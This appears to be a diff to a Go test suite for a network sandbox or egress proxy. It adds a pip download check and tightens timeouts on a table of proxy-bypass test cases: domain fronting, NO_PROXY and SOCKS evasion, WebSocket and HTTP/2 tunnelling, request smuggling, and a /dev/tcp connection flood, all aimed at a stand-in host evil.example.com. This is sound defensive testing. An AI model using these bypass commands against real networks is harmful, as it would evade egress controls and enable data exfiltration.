@@ -70,15 +70,17 @@ func (o *outside) packages(t *testing.T, d *den) {
 			`GOCACHE=$PWD/build SSL_CERT_FILE=$PWD/ca.crt go mod download -x 2>&1; cat cache/example.com/m@v1.0.0/m.go`, "package m\n"},
 		{"npm", `mkdir -p n && cd n && echo '{}' > package.json && npm install --no-audit --no-fund --cafile ../ca.crt ` +
 			`--registry https://registry.example.com/npm/ tiny >/dev/null && cat node_modules/tiny/package.json`, `Output: {"name":"tiny"`},
+		{"pip", `pip download -q --no-deps --no-cache-dir --cert ca.crt --index-url https://registry.example.com/simple/ tiny && ls *.whl`,
+			"Output: tiny-1.0-py3-none-any.whl\n"},
 		{"curl", `curl -sS --cacert ca.crt https://registry.example.com/plain`, "Output: plain\n"},
 		{"curl", `curl -sS http://registry.example.com/plain`, "Output: plain\n"},
 		{"curl", `curl -sS --cacert ca.crt https://registry.example.com/big | wc -c`, "Output: 1073741824\n"},
 	} {
 		t.Run(tt.needs, func(t *testing.T) {
-			if _, err := exec.LookPath(tt.needs); err != nil {
-				t.Skip(err)
-			}
 			d.t = t
+			if tt.needs != "go" && !strings.Contains(d.bash(tt.needs+" --version >/dev/null 2>&1 && echo works"), "works") {
+				t.Skipf("%s doesn't work here", tt.needs)
+			}
 			out, _ := d.run(tt.line, `"approvalMode":"auto-edit"`)
 			if !strings.Contains(out, tt.want) || !strings.Contains(out, "Network: registry.example.com (") {
 				t.Errorf("%s\n%s", tt.line, out)
@@ -114,14 +116,14 @@ func (o *outside) attacks(t *testing.T, d *den) {
 		{"other protocol", "bash", proxy + `printf 'CONNECT front.example.com:443 HTTP/1.1\r\n\r\nSSH-2.0-C4N4RY\r\n' >&3; cat <&3`},
 		{"HTTP/2", "bash", proxy + `printf 'CONNECT front.example.com:443 HTTP/1.1\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\nC4N4RY' >&3; cat <&3`},
 		{"HTTP/2 to the proxy", "bash", proxy + `printf 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nC4N4RY' >&3; cat <&3`},
-		{"WebSocket", "bash", proxy + `printf 'GET ws://evil.example.com/C4N4RY HTTP/1.1\r\nHost: evil.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n' >&3; timeout 5 cat <&3`},
-		{"SNI", "curl", `curl -sk --max-time 10 --connect-to evil.example.com:443:front.example.com:443 https://evil.example.com/C4N4RY`},
-		{"no SNI", "curl", `curl -sk --max-time 10 --connect-to 203.0.113.66:443:front.example.com:443 https://203.0.113.66/C4N4RY`},
-		{"NO_PROXY", "curl", `NO_PROXY='*' no_proxy='*' curl -s --max-time 10 http://evil.example.com/C4N4RY http://front.example.com/C4N4RY`},
-		{"redirect", "curl", `curl -sL --max-time 10 http://registry.example.com/away`},
-		{"SOCKS", "curl", `http_proxy=socks5h://203.0.113.66:443 curl -s --max-time 10 http://front.example.com/C4N4RY`},
+		{"WebSocket", "bash", proxy + `printf 'GET ws://evil.example.com/C4N4RY HTTP/1.1\r\nHost: evil.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n' >&3; timeout 2 cat <&3`},
+		{"SNI", "curl", `curl -sk --max-time 5 --connect-to evil.example.com:443:front.example.com:443 https://evil.example.com/C4N4RY`},
+		{"no SNI", "curl", `curl -sk --max-time 5 --connect-to 203.0.113.66:443:front.example.com:443 https://203.0.113.66/C4N4RY`},
+		{"NO_PROXY", "curl", `NO_PROXY='*' no_proxy='*' curl -s --max-time 5 http://evil.example.com/C4N4RY http://front.example.com/C4N4RY`},
+		{"redirect", "curl", `curl -sL --max-time 5 http://registry.example.com/away`},
+		{"SOCKS", "curl", `http_proxy=socks5h://203.0.113.66:443 curl -s --max-time 5 http://front.example.com/C4N4RY`},
 		{"smuggling", "bash", proxy + `printf 'POST http://registry.example.com/ HTTP/1.1\r\nHost: registry.example.com\r\nContent-Length: 5\r\n` +
-			`Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example.com/C4N4RY HTTP/1.1\r\nHost: evil.example.com\r\n\r\n' >&3; timeout 5 cat <&3`},
+			`Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example.com/C4N4RY HTTP/1.1\r\nHost: evil.example.com\r\n\r\n' >&3; timeout 2 cat <&3`},
 		{"500 connections", "bash", `p=${HTTP_PROXY##*:}; for i in {1..500}; do exec {fd}<>/dev/tcp/127.0.0.1/$p && printf 'CONNECT evil.example.com:443 HTTP/1.1\r\n\r\nC4N4RY' >&$fd; done`},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
